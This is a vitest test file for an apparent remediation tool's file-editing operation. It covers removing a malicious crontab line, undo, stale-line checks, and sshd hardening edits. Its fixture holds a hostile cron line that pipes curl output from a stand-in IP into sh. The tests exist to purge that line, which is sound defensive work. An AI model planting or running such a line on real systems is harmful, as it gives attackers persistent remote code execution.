import { execFileSync } from 'node:child_process';
import { existsSync, linkSync, lstatSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { identifyFile } from '../../../src/host/file-identity.ts';
import { editFile } from '../../../src/host/perform/edit-file.ts';
import type { LineRef } from '../../../src/operations/identity.ts';
import type { OperationOf } from '../../../src/operations/operation.ts';
import {
  fingerprint,
  flagsOf,
  makeStage,
  mustBeDone,
  plantFile,
  receiptOf,
  refusalOf,
  runIfThere,
  type Stage,
  sha256,
} from './stage.ts';

let stage: Stage;
beforeEach(() => {
  stage = makeStage();
});
afterEach(() => stage.end());

const EVIL = '* * * * * curl -s http://203.0.113.7/x | sh';
const CRONTAB = Buffer.concat([
  Buffer.from('# m h dom mon dow command\r\n0 3 * * * /usr/bin/backup\n'),
  Buffer.from([0xff, 0x00, 0x0a]),
  Buffer.from(`${EVIL}\n0 4 * * * /usr/bin/report`),
]);
const CLEAN = Buffer.concat([
  CRONTAB.subarray(0, CRONTAB.indexOf(EVIL)),
  Buffer.from('0 4 * * * /usr/bin/report'),
]);
const EVIL_LINE: LineRef = { number: 4, text: EVIL };

function plant(bytes: string | Uint8Array = CRONTAB): string {
  return plantFile(stage.path('crontab'), bytes);
}

function plan(path: string, removeLines: readonly LineRef[] = [EVIL_LINE]): OperationOf<'edit-file'> {
  return { kind: 'edit-file', id: 'purge.1.2', because: [], file: identifyFile(path), removeLines };
}

async function prepare(operation: OperationOf<'edit-file'>) {
  return receiptOf(await editFile.prepare(operation, stage.context()));
}

test('the line is removed, all else stays byte for byte, and undo brings the very same file back', async () => {
  const path = plant();
  const before = fingerprint(path);
  const operation = plan(path);
  const prepared = await editFile.prepare(operation, stage.context());
  const receipt = receiptOf(prepared);
  const [copy] = prepared.status === 'ready' ? prepared.evidence : [];
  expect(sha256(readFileSync(join(stage.evidenceFolder, copy?.name ?? '')))).toBe(sha256(CRONTAB));
  expect(await editFile.verify(operation, receipt)).toMatchObject({ status: 'does-not-hold' });

  const finished = mustBeDone(await editFile.perform(operation, receipt, stage.context()));
  expect(readFileSync(path)).toEqual(CLEAN);
  const after = fingerprint(path);
  expect(after).toMatchObject({
    mode: before.mode,
    uid: before.uid,
    gid: before.gid,
    attributes: before.attributes,
  });
  // Cron takes note of a changed crontab by its time.
  expect(after.mtimeNs).toBeGreaterThan(before.mtimeNs);
  for (const known of [receipt, finished])
    expect(await editFile.verify(operation, known)).toMatchObject({ status: 'holds' });
  expect(readFileSync(join(stage.hostFolder, 'originals', 'purge.1.2'))).toEqual(CRONTAB);
  expect(lstatSync(join(stage.hostFolder, 'originals', 'purge.1.2')).mode & 0o777).toBe(0o600);

  mustBeDone(await editFile.undo(operation, finished, stage.context()));
  expect(fingerprint(path)).toEqual(before);
  expect(await editFile.verify(operation, finished)).toMatchObject({ status: 'does-not-hold' });
  mustBeDone(await editFile.undo(operation, finished, stage.context()));
  expect(fingerprint(path)).toEqual(before);
});

test('cut off after the original was kept but before the exchange, nothing has changed and undo tidies up', async () => {
  const path = plant();
  const before = fingerprint(path);
  const operation = plan(path);
  const receipt = await prepare(operation);
  execFileSync('mkdir', ['-m', '700', join(stage.hostFolder, 'quarantine')]);
  linkSync(path, join(stage.hostFolder, 'quarantine', 'purge.1.2'));
  expect(await editFile.verify(operation, receipt)).toMatchObject({ status: 'does-not-hold' });
  mustBeDone(await editFile.undo(operation, receipt, stage.context()));
  expect(fingerprint(path)).toEqual(before);
  expect(existsSync(join(stage.hostFolder, 'quarantine', 'purge.1.2'))).toBe(false);
});

test('without the kept inode, undo makes the file anew from the copy of its bytes', async () => {
  const path = plant();
  const before = fingerprint(path);
  const operation = plan(path);
  const receipt = await prepare(operation);
  mustBeDone(await editFile.perform(operation, receipt, stage.context()));
  rmSync(join(stage.hostFolder, 'quarantine', 'purge.1.2'));
  mustBeDone(await editFile.undo(operation, receipt, stage.context()));
  expect({ ...fingerprint(path), inode: 0n }).toEqual({ ...before, inode: 0n });
});

test('an immutable file in an immutable folder is edited, and both are as before after undo', async () => {
  const path = plant();
  runIfThere('chattr', ['+i', path]);
  runIfThere('chattr', ['+i', stage.path('.')]);
  const before = fingerprint(path);
  const folderFlags = flagsOf(stage.path('.'));
  const operation = plan(path);
  const finished = mustBeDone(await editFile.perform(operation, await prepare(operation), stage.context()));
  expect(readFileSync(path)).toEqual(CLEAN);
  expect(flagsOf(stage.path('.'))).toBe(folderFlags);
  mustBeDone(await editFile.undo(operation, finished, stage.context()));
  expect(fingerprint(path)).toEqual(before);
  expect(flagsOf(stage.path('.'))).toBe(folderFlags);
});

test('what somebody has changed since is neither lost by undo nor called undone', async () => {
  const path = plant();
  const operation = plan(path);
  const finished = mustBeDone(await editFile.perform(operation, await prepare(operation), stage.context()));
  writeFileSync(path, `${CLEAN.toString('latin1')}\n# by the admin\n`, 'latin1');
  expect(await editFile.verify(operation, finished)).toMatchObject({
    status: 'holds',
    detail: expect.stringContaining('something else has changed it'),
  });
  const undone = await editFile.undo(operation, finished, stage.context());
  expect(undone).toMatchObject({ status: 'failed', message: expect.stringContaining('by something else') });
  expect(readFileSync(path, 'latin1')).toContain('# by the admin');
  writeFileSync(path, `# new\n${EVIL}\n`);
  expect(await editFile.verify(operation, finished)).toMatchObject({
    status: 'does-not-hold',
    detail: expect.stringContaining('again'),
  });
});

test('removing the only line leaves an empty file; a line with a twin leaves the twin', async () => {
  const path = plant('evil\n');
  const only = plan(path, [{ number: 1, text: 'evil' }]);
  const finished = mustBeDone(await editFile.perform(only, await prepare(only), stage.context()));
  expect(readFileSync(path, 'utf8')).toBe('');
  mustBeDone(await editFile.undo(only, finished, stage.context()));
  rmSync(path);
  const twin = { ...plan(plant('evil\nevil\n'), [{ number: 2, text: 'evil' }]), id: 'purge.1.3' };
  const kept = mustBeDone(await editFile.perform(twin, await prepare(twin), stage.context()));
  expect(readFileSync(path, 'utf8')).toBe('evil\n');
  expect(await editFile.verify(twin, kept)).toMatchObject({ status: 'holds' });
});

test.for([
  ['another text', [{ number: 4, text: 'other' }], 'line 4 is not what it was'],
  ['another number', [{ number: 2, text: EVIL }], 'line 2 is not what it was'],
  ['no such line', [{ number: 99, text: EVIL }], 'no line 99'],
] as const)('%s is stale', async ([, lines, words]) => {
  const refusal = refusalOf(await editFile.prepare(plan(plant(), lines), stage.context()));
  expect(refusal).toMatchObject({ code: 'stale', message: expect.stringContaining(words) });
});

test('a changed file is stale, before and after it was prepared; a symlink is not edited', async () => {
  const path = plant();
  const operation = plan(path);
  const receipt = await prepare(operation);
  writeFileSync(path, `${EVIL}\n`);
  expect(refusalOf(await editFile.prepare(operation, stage.context()))).toMatchObject({ code: 'stale' });
  expect((await editFile.perform(operation, receipt, stage.context())).status).toBe('failed');
  expect(readFileSync(path, 'utf8')).toBe(`${EVIL}\n`);
  symlinkSync(path, stage.path('link'));
  expect(refusalOf(await editFile.prepare(plan(stage.path('link')), stage.context()))).toMatchObject({
    code: 'invalid',
  });
});

test("the responder's own key line is refused, another key's is not", async () => {
  for (const name of ['mine', 'theirs'])
    execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', name, '-f', stage.path(name)]);
  const keys = ['mine', 'theirs'].map((name) => readFileSync(stage.path(`${name}.pub`), 'utf8').trim());
  const path = plant(`${keys.join('\n')}\n`);
  const keyFingerprint =
    execFileSync('ssh-keygen', ['-lf', stage.path('mine.pub')])
      .toString()
      .split(' ')[1] ?? '';
  const context = stage.context({ keyFingerprint });
  const lineOf = (index: number): LineRef => ({ number: index + 1, text: keys[index] ?? '' });
  expect(refusalOf(await editFile.prepare(plan(path, [lineOf(0)]), context))).toMatchObject({
    code: 'responder',
  });
  const operation = plan(path, [lineOf(1)]);
  mustBeDone(
    await editFile.perform(operation, receiptOf(await editFile.prepare(operation, context)), context),
  );
  expect(readFileSync(path, 'utf8')).toBe(`${keys[0]}\n`);
});

test('lines are replaced and inserted, judged from the receipt as prepared, and taken back', async () => {
  const text = 'Port 22\r\nPasswordAuthentication yes\r\nUsePAM yes';
  const path = plant(text);
  const before = fingerprint(path);
  const operation: OperationOf<'edit-file'> = {
    ...plan(path, []),
    replaceLines: [
      { line: { number: 2, text: 'PasswordAuthentication yes' }, text: 'PasswordAuthentication no' },
    ],
    insertLines: [{ below: { number: 3, text: 'UsePAM yes' }, text: 'PermitRootLogin no' }],
  };
  const receipt = await prepare(operation);
  expect(await editFile.verify(operation, receipt)).toMatchObject({ status: 'does-not-hold' });
  const finished = mustBeDone(await editFile.perform(operation, receipt, stage.context()));
  expect(readFileSync(path, 'latin1')).toBe(
    'Port 22\r\nPasswordAuthentication no\r\nUsePAM yes\r\nPermitRootLogin no',
  );
  expect(await editFile.verify(operation, receipt)).toMatchObject({ status: 'holds' });
  // Another has written since: what counts are the lines.
  const now = readFileSync(path, 'latin1');
  writeFileSync(path, `# a comment\r\n${now}`);
  expect(await editFile.verify(operation, finished)).toMatchObject({ status: 'holds' });
  writeFileSync(path, now.replace('PermitRootLogin no', ''));
  expect(await editFile.verify(operation, finished)).toMatchObject({ status: 'does-not-hold' });
  writeFileSync(path, now.replace('Authentication no', 'Authentication yes'));
  expect(await editFile.verify(operation, finished)).toMatchObject({ status: 'does-not-hold' });
  writeFileSync(path, now);
  mustBeDone(await editFile.undo(operation, finished, stage.context()));
  expect(fingerprint(path)).toEqual(before);
});
